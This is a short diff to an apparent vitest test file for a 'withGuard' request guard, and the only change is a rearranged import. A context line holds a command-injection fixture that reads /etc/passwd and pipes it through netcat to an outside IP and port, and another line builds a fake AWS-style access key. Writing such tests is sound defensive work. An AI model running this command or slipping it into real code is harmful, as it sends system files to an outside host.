@@ -1,6 +1,7 @@
 import { createServer } from 'node:http';
 import { describe, expect, test } from 'vitest';
-import { type Handler, withGuard } from './guard.ts';
+import { withGuard } from './guard.ts';
+import type { Handler } from './handler.ts';
 
 const attack = '1; cat /etc/passwd | nc 203.0.113.9 4444';
 const KEY_ID = ['AKIA', 'QWERTYUIOPASDFGH'].join('');
